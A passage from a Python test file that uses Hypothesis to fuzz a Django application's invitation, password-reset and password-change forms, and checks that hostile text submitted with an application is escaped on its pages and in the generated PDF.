    with voorbeeld():
        client = Client()
        pad = f"/accounts/uitnodiging/{quote(token, safe='') or 'x'}/"
        uitkomst = post(client, pad, invoer, encoding)
        if token != TOKEN:
            assert uitkomst.response.status_code == 404
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "accounts_user", "beheer_uitnodiging")
            gebruiker = User.objects.get(pk=uitgenodigd.pk)
            assert gebruiker.check_password(laatste(invoer, "new_password1"))
            assert Uitnodiging.objects.get(gebruiker=gebruiker).gebruikt_op is not None


@VEEL
@given(
    email=formulier(
        {"email": Veld(st.sampled_from(("alice@example.org", "ALICE@EXAMPLE.ORG")), FOUT_EMAIL)}
    ),
    invoer=wachtwoorden(),
    uid=st.sampled_from(("§uid", "§uid", "§vreemde_uid", "OTk5OTk5OTk5OTk5OTk5OTk5OTk5", "!!", "")),
    encoding=ENCODING,
)
def test_password_reset_forms(email, invoer, uid, encoding, regisseur, collega):
    with voorbeeld():
        client = Client()
        vraag = post(
            client,
            "/accounts/password_reset/",
            email,
            encoding,
            gelukt=lambda _response, _veranderd: False,  # asking never writes
        )
        assert vraag.response.status_code in (200, 302)
        assert len(mail.outbox) <= 1
        if mail.outbox:
            assert mail.outbox[0].to == [regisseur.email]

        uidb64 = invullen(
            uid,
            {
                "§uid": urlsafe_base64_encode(force_bytes(regisseur.pk)),
                "§vreemde_uid": urlsafe_base64_encode(force_bytes(collega.pk)),
            },
        )
        token = default_token_generator.make_token(regisseur)
        link = client.get(f"/accounts/reset/{uidb64 or 'x'}/{token}/")
        assert link.status_code < 500
        if link.status_code != 302:
            return
        uitkomst = post(client, link["Location"], invoer, encoding)
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "accounts_user")
            assert User.objects.get(pk=regisseur.pk).check_password(
                laatste(invoer, "new_password1")
            )


@VEEL
@given(
    invoer=wachtwoorden(),
    oud=st.one_of(st.just(PASSWORD), FOUT_WACHTWOORD),
    encoding=ENCODING,
)
def test_password_change_form(invoer, oud, encoding, regisseur):
    with voorbeeld():
        # A new client each time: a saved password gives the session a new key.
        uitkomst = post(
            client_for(regisseur),
            "/accounts/password_change/",
            {**invoer, "old_password": oud},
            encoding,
        )
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "accounts_user")
            assert oud == PASSWORD
            assert User.objects.get(pk=regisseur.pk).check_password(
                laatste(invoer, "new_password1")
            )


# --- Submitting an aanvraag whose content is hostile ---------------------------------------------


@PDF_WEINIG
@given(
    contact=_tekst(200),
    analyse=_tekst(),
    titel=_tekst(200),
    extra=st.dictionaries(EXTRA_NAAM, st.one_of(_tekst(40), _foute_tekst()), max_size=3),
)
def test_indienen_with_hostile_content(
    contact, analyse, titel, extra, aanvraag, regisseur, als_regisseur
):
    """Texts the forms accept (injections, control characters, right-to-left marks, emoji) go
    into the sealed PDF and onto the pages after it; unknown fields posted with the button do
    not matter."""
    with voorbeeld():
        fill_everything(aanvraag, regisseur)
        inhoud = {
            "contact": contact.strip() or "x",
            "analyse": analyse.strip() or "x",
            "titel": titel.strip() or "x",
        }
        Aanvraag.objects.filter(pk=aanvraag.pk).update(
            contact_naam=inhoud["contact"], omgevingsanalyse=inhoud["analyse"]
        )
        Actie.objects.filter(aanvraag=aanvraag).update(titel=inhoud["titel"])
        uitkomst = post(als_regisseur, f"/aanvragen/{aanvraag.pk}/indienen/", extra)
        assert uitkomst.gelukt
        assert Aanvraag.objects.get(pk=aanvraag.pk).status == AanvraagStatus.INGEDIEND
        ontsnapt(als_regisseur.get(f"/aanvragen/{aanvraag.pk}/"), inhoud)
        ontsnapt(als_regisseur.get(f"/aanvragen/{aanvraag.pk}/meerjarenplan/"), inhoud)
        pdf = als_regisseur.get(f"/aanvragen/{aanvraag.pk}/pdf/")
        assert pdf.status_code == 200
        assert pdf.content.startswith(b"%PDF-")
